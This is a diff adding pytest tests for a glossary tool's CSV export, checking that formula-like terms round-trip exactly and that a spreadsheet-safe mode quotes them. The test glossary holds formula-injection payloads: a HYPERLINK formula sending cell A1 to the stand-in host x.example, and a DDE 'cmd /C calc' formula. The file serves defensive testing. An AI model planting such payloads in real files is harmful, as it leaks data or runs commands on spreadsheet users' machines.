@@ -16,7 +16,14 @@ from conftest import ROOT, invoke
 from test_peer_qa import needs_index
 
 from translate.glossary.file import read_glossary
-from translate.glossary.termbase import csv_rows, language_notes, write_csv, write_tbx
+from translate.glossary.termbase import (
+    CSV_COLUMNS,
+    csv_rows,
+    formula_safe,
+    language_notes,
+    write_csv,
+    write_tbx,
+)
 
 sys.path.insert(0, str(ROOT / "benchmarks"))
 import peer_qa
@@ -141,3 +148,84 @@ def test_translate_toolkit_reads_the_tbx_and_the_csv(tmp_path: Path):
     assert [(r["source"], r["target"], r["context"], r["notes"]) for r in found["csv"]] == [
         (r["source"], r["target"], r["context"], r["developer_comments"])
         for r in csv_rows(glossary, "ru")]
+
+
+# --- Terms that start like a spreadsheet formula ---------------------------------------------
+
+#: A glossary whose terms, aliases and notes start as spreadsheet formulas do.
+FORMULA_GLOSSARY = """version: 1
+terms:
+  - en: "=HYPERLINK(\\"http://x.example/?\\"&A1,\\"Vienna\\")"
+    aliases: ["+Wien", "-Vena", "@SUM(A1)"]
+    note: "=1+2"
+    ru:
+      approved: "=cmd|' /C calc'!A0"
+      inflect: none
+      note: "-2+3"
+"""
+
+
+def test_the_csv_export_keeps_a_formula_like_term_exact(project: Path):
+    (project / "glossary.yaml").write_text(FORMULA_GLOSSARY, encoding="utf-8")
+    text = invoke("glossary", "export", "--format", "csv", "--lang", "ru").stdout
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    assert [r["source"] for r in rows] == [
+        '=HYPERLINK("http://x.example/?"&A1,"Vienna")', "+Wien", "-Vena", "@SUM(A1)"]
+    assert {r["target"] for r in rows} == {"=cmd|' /C calc'!A0"}
+    assert {r["developer_comments"] for r in rows} == {"=1+2 | -2+3"}
+
+
+@pytest.mark.parametrize(("field", "safe"), [
+    ("=1+2", "'=1+2"),
+    ("+Wien", "'+Wien"),
+    ("-Vena", "'-Vena"),
+    ("@SUM(A1)", "'@SUM(A1)"),
+    ("\tVienna", "'\tVienna"),
+    ("\rVienna", "'\rVienna"),
+    ("Vienna", "Vienna"),
+    ("Wien=Vienna", "Wien=Vienna"),
+    ("'=1+2", "'=1+2"),
+    ("", ""),
+])
+def test_the_spreadsheet_safe_form_quotes_a_field_that_starts_like_a_formula(field, safe):
+    assert formula_safe(field) == safe
+
+
+def test_the_spreadsheet_safe_export_prefixes_every_formula_field(project: Path):
+    (project / "glossary.yaml").write_text(FORMULA_GLOSSARY, encoding="utf-8")
+    out = project / "ru.csv"
+    invoke("glossary", "export", "--format", "csv", "--lang", "ru", "--spreadsheet-safe",
+           "-o", str(out))
+    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
+    assert rows[0] == list(CSV_COLUMNS)
+    fields = [field for row in rows[1:] for field in row if field]
+    assert fields and all(not field.startswith(("=", "+", "-", "@")) for field in fields)
+    assert rows[1][:2] == ['\'=HYPERLINK("http://x.example/?"&A1,"Vienna")',
+                           "'=cmd|' /C calc'!A0"]
+    assert all(line.startswith('"') for line in out.read_text(encoding="utf-8").splitlines())
+
+
+def test_spreadsheet_safe_is_for_csv_only(project: Path):
+    result = invoke("glossary", "export", "--spreadsheet-safe", code=2)
+    assert "--spreadsheet-safe" in result.output and "csv" in result.output
+
+
+@pytest.mark.slow
+@needs_index
+def test_translate_toolkit_reads_formula_like_terms_back_exactly(tmp_path: Path, project: Path):
+    """The default CSV is the exact text for tools that import it (Weblate reads with
+    Translate Toolkit): a term starting with = + - @ comes back as it was written."""
+    (project / "glossary.yaml").write_text(FORMULA_GLOSSARY, encoding="utf-8")
+    bin_dir = peer_qa.ensure_peers(ROOT / "build" / "peers")
+    glossary = read_glossary(project / "glossary.yaml")
+    tbx_path, csv_path = tmp_path / "glossary.tbx", tmp_path / "ru.csv"
+    invoke("glossary", "export", "--lang", "ru", "-o", str(tbx_path))
+    invoke("glossary", "export", "--format", "csv", "--lang", "ru", "-o", str(csv_path))
+    script = tmp_path / "reader.py"
+    script.write_text(READER, encoding="utf-8")
+    found = json.loads(peer_qa.run_peer(bin_dir, "python", "-I", str(script), str(tbx_path),
+                                        str(csv_path), "ru"))
+    assert [(r["source"], r["target"], r["context"], r["notes"]) for r in found["csv"]] == [
+        (r["source"], r["target"], r["context"], r["developer_comments"])
+        for r in csv_rows(glossary, "ru")]
+    assert found["csv"][0]["source"] == '=HYPERLINK("http://x.example/?"&A1,"Vienna")'
